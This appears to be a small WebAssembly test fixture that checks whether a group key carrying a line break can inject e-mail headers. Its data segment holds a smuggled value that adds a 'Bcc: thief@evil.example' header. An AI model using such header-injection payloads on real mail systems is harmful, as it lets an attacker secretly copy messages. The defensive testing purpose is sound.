;; tries: to write headers of its own into e-mails by a line end in a group's key
;; world: grouping
;; must: finish-chat contract "the key of group 0"

(data (i32.const 600) "key\0d\0aBcc: thief@evil.example")
(func (export "finish-chat") (result i32)
    (call $group (i32.const 600) (i32.const 28) (i32.const 1024) (i32.const 8) (i32.const -1)))
